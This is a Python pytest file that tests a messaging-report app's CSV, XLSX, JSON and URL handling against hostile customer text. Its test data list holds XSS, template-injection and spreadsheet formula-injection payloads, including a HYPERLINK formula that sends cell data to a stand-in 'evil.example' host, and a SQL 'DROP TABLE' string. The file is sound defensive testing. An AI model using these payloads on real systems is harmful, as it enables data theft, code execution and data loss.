"""Whatever customers wrote is text: in data, in files, in the address."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from page import spreadsheets
from page.report import embedded
from page.view import find
from tests.page.conftest import Visit, Visitor, World, spoil

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!--<script>",
    "]]>",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "{a|rich} text {b|of} charts",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＠SUM(1)",
    "\u202eelif.exe\u202c",
    "\u2066isolated\u2069",
    "nul\x00inside",
    "bell\x07 escape\x1b[31m",
    "quotes \" ' ` , ; \\",
    "=" * 40_000,
    "x" * 100_000,
    "مرحبا <b>bold</b> 🙂",
    "'; DROP TABLE core.messages; --",
    "%3Cscript%3E",
    "&lt;b&gt;&amp;",
]
_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def cells(file: Path) -> list[list[tuple[str, str]]]:
    """Type and text of each cell of a sheet, read from its XML."""
    with zipfile.ZipFile(file) as book:
        names = book.namelist()
        assert not any("externalLink" in name or "vba" in name.lower() for name in names)
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    assert list(sheet.iter(f"{_MAIN}f")) == []  # no formula
    assert list(sheet.iter(f"{_MAIN}hyperlink")) == []
    return [
        [(cell.get("t", "n"), "".join(cell.itertext())) for cell in row]
        for row in sheet.iter(f"{_MAIN}row")
    ]


def test_in_a_sheet_every_text_is_text(tmp_path: Path) -> None:
    file = tmp_path / "rows.xlsx"
    rows = [(text, number) for number, text in enumerate(HOSTILE)]
    spreadsheets.write_xlsx(file, ["=label", "b"], rows, "Asia/Riyadh", right_to_left=True)
    found = cells(file)
    assert len(found) == len(HOSTILE) + 1
    assert {row[0][0] for row in found} == {"inlineStr"}
    assert [row[1] for row in found[1:]] == [("n", str(n)) for n in range(len(HOSTILE))]
    assert max(len(row[0][1]) for row in found) <= 32_767


def test_in_a_csv_no_text_begins_as_a_formula(tmp_path: Path) -> None:
    file = tmp_path / "rows.csv"
    spreadsheets.write_csv(file, ["=label"], [(text,) for text in HOSTILE], "Asia/Riyadh")
    with file.open(encoding="utf-8-sig", newline="") as read:
        found = [row[0] for row in csv.reader(read)]
    assert len(found) == len(HOSTILE) + 1
    for text in found:
        assert text.lstrip()[:1] not in tuple("=+-@＝＋－＠"), text[:20]
        assert text[:1] not in ("\t", "\r", "\n")
        assert "\x00" not in text
        assert "\x1b" not in text
    assert found[1] == HOSTILE[0]  # markup stays as it was written
    assert found[-5] == HOSTILE[-5]  # and so does a long text


def test_numbers_that_are_negative_stay_numbers(tmp_path: Path) -> None:
    file = tmp_path / "rows.csv"
    spreadsheets.write_csv(file, ["n"], [(-2,), (-0.5,), (None,)], "Asia/Riyadh")
    assert file.read_text(encoding="utf-8-sig").splitlines() == ["n", "-2", "-0.5", '""']


@pytest.mark.parametrize("text", HOSTILE)
def test_in_a_report_no_text_ends_its_element(text: str) -> None:
    written = embedded({"name": text, text[:50]: [text]})
    assert "<" not in written
    assert ">" not in written
    assert json.loads(written) == {"name": text, text[:50]: [text]}


def test_in_an_address_it_is_a_value(tiny: Visitor) -> None:
    for text in HOSTILE[:24:2]:
        if "\x00" not in text:
            answer = tiny.get("/data/view/tiny", params={"tag": text, "period": "7d"})
            assert answer.status_code == 200
            assert answer.headers["content-type"] == "application/json"
            wrong = tiny.get("/data/view/tiny", params={text: "1"})
            assert (wrong.status_code, wrong.headers["content-type"]) == (400, "application/json")
            page = tiny.get("/", params={"view": text, "lang": text, "tag": text})
            assert text not in page.text or text == "-2+3"


@pytest.fixture(scope="module")
def hostile(world: World, visit: Visit, tmp_path_factory: pytest.TempPathFactory) -> Visitor:
    """A visitor of a workspace in which every text tries to be something else."""
    home = tmp_path_factory.mktemp("hostile") / "home"
    shutil.copytree(world.settings.home, home)
    settings = world.settings.model_copy(update={"home": home})
    spoil(settings, [text.replace("\x00", "") for text in HOSTILE])
    return visit(world.page(home=home))


@pytest.mark.parametrize("view", list(find()))
def test_every_file_of_every_view_holds_texts_alone(
    hostile: Visitor, view: str, tmp_path: Path
) -> None:
    for part in find()[view].parts:
        path, given = f"/export/{view}/{part.name}", {"period": "year", "waiting": "all"}
        text = export(hostile, f"{path}.csv", **given).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                is_number = re.fullmatch(r"-?[0-9.]+(e-?[0-9]+)?", cell) is not None
                assert is_number or cell.lstrip()[:1] not in tuple("=+-@＝＋－＠"), cell[:30]
        file = tmp_path / f"{part.name}.xlsx"
        file.write_bytes(export(hostile, f"{path}.xlsx", **given))
        cells(file)


def test_every_view_and_way_behind_it_answers_with_texts(hostile: Visitor) -> None:
    shown = ""
    for view in find():
        answer = hostile.get(f"/data/view/{view}", params={"period": "year", "waiting": "all"})
        assert answer.headers["content-type"] == "application/json"
        shown += answer.text
        for part in answer.json()["parts"]:
            if part["drill"] and part["rows"]:
                names = [column["name"] for column in part["columns"]]
                row = dict(zip(names, part["rows"][0], strict=True))
                picks = {f"pick.{key}": row[key] for key in part["drill"]}
                path = f"/data/conversations/{view}/{part['name']}"
                behind = hostile.get(path, params={"period": "year", **picks})
                assert behind.status_code == 200
    assert "<script>" in shown
    assert "x" * 100_000 in shown or "=" * 40_000 in shown


def export(visitor: Visitor, path: str, **given: Any) -> bytes:
    answer = visitor.get(path, params=given)
    assert answer.status_code == 200
    assert answer.headers["content-disposition"].startswith('attachment; filename="hatif-')
    return answer.content


def test_files_hold_the_rows_of_the_page(visitor: Visitor, tmp_path: Path) -> None:
    shown = visitor.json("/data/view/volume", period="year", grain="month")["parts"][1]
    given = {"period": "year", "grain": "month", "lang": "ar"}
    text = export(visitor, "/export/volume/over_time.csv", **given).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text)))
    assert read[0] == ["التاريخ", "الرسائل الواردة", "الرسائل الصادرة", "الجلسات"]
    assert read[1:] == [[row[0], *map(str, row[1:])] for row in shown["rows"]]

    file = tmp_path / "rows.xlsx"
    file.write_bytes(export(visitor, "/export/volume/over_time.xlsx", **given))
    assert [[int(text) for _, text in row[1:]] for row in cells(file)[1:]] == [
        row[1:] for row in shown["rows"]
    ]


def test_instants_in_files_are_on_the_clock_of_the_reports(visitor: Visitor) -> None:
    shown = visitor.json("/data/view/now")["parts"][2]["rows"]
    text = export(visitor, "/export/now/waiting.csv").decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text)))[1:]
    assert len(read) == len(shown) > 0
    hour = int(shown[0][4][11:13])
    assert int(read[0][4][11:13]) == (hour + 3) % 24
